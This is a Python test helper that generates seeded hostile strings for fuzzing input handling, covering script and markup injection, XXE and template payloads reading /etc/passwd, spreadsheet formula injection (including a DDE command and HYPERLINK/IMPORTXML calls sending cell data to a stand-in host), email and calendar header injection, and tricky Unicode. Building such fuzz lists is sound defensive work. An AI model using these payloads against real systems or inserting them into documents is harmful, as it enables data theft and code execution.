"""Texts that mean harm, for every place that a stranger fills: markup, addresses, formulas, letters that hide or turn.

Made of parts by a seed, so that a failure can be seen again; the first ones are each part alone.
"""

import random

_MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</p></body></html>", "<svg onload=x>",
    "&lt;b&gt;&amp;", "<!--", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<style>@import 'http://198.51.100.1/x.css';</style>", "<link rel=attachment href=file:///etc/passwd>",
    "{{7*7}}", "{% include '/etc/passwd' %}", "{domain}", "%(domain)s", "${7*7}", '" onmouseover="x', "'><b>",
    "\\", "\\n", "`id`",
)  # fmt: skip
_ADDRESSES = (
    "file:///etc/passwd", "http://198.51.100.1/x", "https://x.example/?a=b&c=d#e", "javascript:alert(1)",
    "//x.example", "data:text/html,<b>", "url(file:///etc/passwd)", "@import url(http://198.51.100.1)",
    "mailto:x@y.example", "\\\\198.51.100.1\\share", "external:file.xlsx", "internal:Sheet2!A1", "ftp://x",
    "webcal://x.example",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", '=HYPERLINK("http://198.51.100.1/?"&A1,"x")', "{=1+1}",
    '=IMPORTXML("http://198.51.100.1","//a")', "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1",
    "\uff20SUM", "\ufe661", "\u22121", ";=1+1", ",=1+1", '";"=1+1', '",=1+1', "\u200b=1+1", "\u00a0=1+1", "'=1+1",
    "%0A=1",
)  # fmt: skip
_LETTERS = (
    "\u202e", "\u202d", "\u2066", "\u2069", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad",
    "\u2028", "\u2029", "\x85", "\x00", "\x07", "\x1b[31m", "\x7f", "\x9b", "\ud800", "\udc00", "\ufffe", "\uffff",
    "\ufffd", "\U000e0041", "\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1eb\U0001f1ee",
    "a" + "\u0301" * 50, "\u05d0\u05d1", "\u0645\u0631\u062d\u0628\u0627", "\u4e2d\u6587", "\u0e01\u0e33",
    "\U00010ffff", "_x0041_", "_x000D_",
)  # fmt: skip
_ENDS = (
    "\r\nBEGIN:VEVENT\r\nSUMMARY:x", "\nEND:VCALENDAR", "\r\nBcc: x@y.example\r\n\r\n", "\r\n.\r\n", "\\;\\,\\N",
    ":;,", "\r", "\n\n", "\t", " ", "",
)  # fmt: skip
_PARTS = (*_MARKUP, *_ADDRESSES, *_FORMULAS, *_LETTERS, *_ENDS)
_LONGEST = 100_000


def hostile_texts(count: int) -> list[str]:
    """So many of them, the same every time: one very long one among each hundred."""
    chance = random.Random(20261123)  # noqa: S311 - the same every time is what is wanted
    made = [*_PARTS]
    while len(made) < count:
        text = "".join(chance.choices(_PARTS, k=chance.randint(2, 6)))
        if len(made) % 100 == 0:
            text = (text * (_LONGEST // len(text) + 1))[:_LONGEST] if text else text
        made.append(text)
    if count < len(made):
        made = [*chance.sample(made, count - 1), "=\U0001f600" * (_LONGEST // 2)]
    return made
